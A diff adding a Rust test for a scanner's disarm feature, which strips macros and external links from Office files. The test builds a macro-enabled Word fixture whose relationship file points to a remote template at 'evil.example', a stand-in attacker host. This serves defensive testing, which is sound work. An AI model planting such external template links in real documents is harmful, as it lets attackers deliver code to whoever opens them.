@@ -321,3 +321,132 @@ fn an_action_policy_acts_by_finding_code_over_the_verdict_and_a_bad_one_is_refus
     );
     assert!(bad.exists());
 }
+
+/// A ZIP of (name, text) parts, stored (no compression), for the disarm test's DOCM.
+fn stored_zip(parts: &[(&str, &str)]) -> Vec<u8> {
+    let mut out = Vec::new();
+    let mut central = Vec::new();
+    for (name, text) in parts {
+        let crc = {
+            // CRC-32 (IEEE), bitwise: small inputs only.
+            let mut c = 0xFFFF_FFFFu32;
+            for b in text.bytes() {
+                c ^= u32::from(b);
+                for _ in 0..8 {
+                    c = if c & 1 == 1 {
+                        (c >> 1) ^ 0xEDB8_8320
+                    } else {
+                        c >> 1
+                    };
+                }
+            }
+            !c
+        };
+        let len = u32::try_from(text.len()).unwrap();
+        let name_len = u16::try_from(name.len()).unwrap();
+        let offset = u32::try_from(out.len()).unwrap();
+        let fields = |buf: &mut Vec<u8>| {
+            buf.extend(20u16.to_le_bytes());
+            buf.extend(0u16.to_le_bytes());
+            buf.extend(0u16.to_le_bytes());
+            buf.extend(0u32.to_le_bytes());
+            buf.extend(crc.to_le_bytes());
+            buf.extend(len.to_le_bytes());
+            buf.extend(len.to_le_bytes());
+            buf.extend(name_len.to_le_bytes());
+            buf.extend(0u16.to_le_bytes());
+        };
+        out.extend(0x0403_4b50u32.to_le_bytes());
+        fields(&mut out);
+        out.extend(name.as_bytes());
+        out.extend(text.as_bytes());
+        central.extend(0x0201_4b50u32.to_le_bytes());
+        central.extend(20u16.to_le_bytes());
+        fields(&mut central);
+        central.extend([0u8; 10]); // comment, disk, internal and external attributes
+        central.extend(offset.to_le_bytes());
+        central.extend(name.as_bytes());
+    }
+    let cd_offset = u32::try_from(out.len()).unwrap();
+    let cd_len = u32::try_from(central.len()).unwrap();
+    let n = u16::try_from(parts.len()).unwrap();
+    out.extend(central);
+    out.extend(0x0605_4b50u32.to_le_bytes());
+    out.extend([0u8; 4]);
+    out.extend(n.to_le_bytes());
+    out.extend(n.to_le_bytes());
+    out.extend(cd_len.to_le_bytes());
+    out.extend(cd_offset.to_le_bytes());
+    out.extend(0u16.to_le_bytes());
+    out
+}
+
+#[test]
+fn disarm_writes_macro_free_copies_with_sidecars_and_the_copies_scan_clean() {
+    let tmp = tempfile::tempdir().unwrap();
+    let data = tmp.path().join("data");
+    let inbox = tmp.path().join("in");
+    let safe = tmp.path().join("safe");
+    std::fs::create_dir_all(&inbox).unwrap();
+    let docm = stored_zip(&[
+        (
+            "[Content_Types].xml",
+            r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#,
+        ),
+        (
+            "_rels/.rels",
+            r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#,
+        ),
+        (
+            "word/document.xml",
+            r#"<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>hello</w:t></w:r></w:p></w:body></w:document>"#,
+        ),
+        (
+            "word/_rels/document.xml.rels",
+            r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#,
+        ),
+        ("word/vbaProject.bin", "macro bytes"),
+    ]);
+    std::fs::write(inbox.join("report.docm"), &docm).unwrap();
+    std::fs::write(inbox.join("photo.jpg"), BAD_JPEG).unwrap();
+
+    let o = haetae(
+        &data,
+        &[
+            "scan",
+            "--json",
+            "--disarm",
+            safe.to_str().unwrap(),
+            inbox.to_str().unwrap(),
+        ],
+    );
+    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
+    let sidecar: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(safe.join("report.docm.disarm.json")).unwrap())
+            .unwrap();
+    let removed = sidecar["removed"].to_string();
+    for what in ["macro project", "external relationship"] {
+        assert!(removed.contains(what), "{what} not in {removed}");
+    }
+    // No rebuild for JPEG yet: a sidecar saying so, no copy.
+    let jpeg_note: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(safe.join("photo.jpg.disarm.json")).unwrap())
+            .unwrap();
+    assert!(
+        jpeg_note["note"]
+            .as_str()
+            .unwrap()
+            .contains("no safe rebuild")
+    );
+    assert!(!safe.join("photo.jpg").exists());
+
+    // The copy scans clean.
+    let o = haetae(
+        &data,
+        &["scan", "--json", safe.join("report.docm").to_str().unwrap()],
+    );
+    let line: serde_json::Value =
+        serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().next().unwrap()).unwrap();
+    assert_eq!(line["verdict"], "clean", "{line}");
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+}
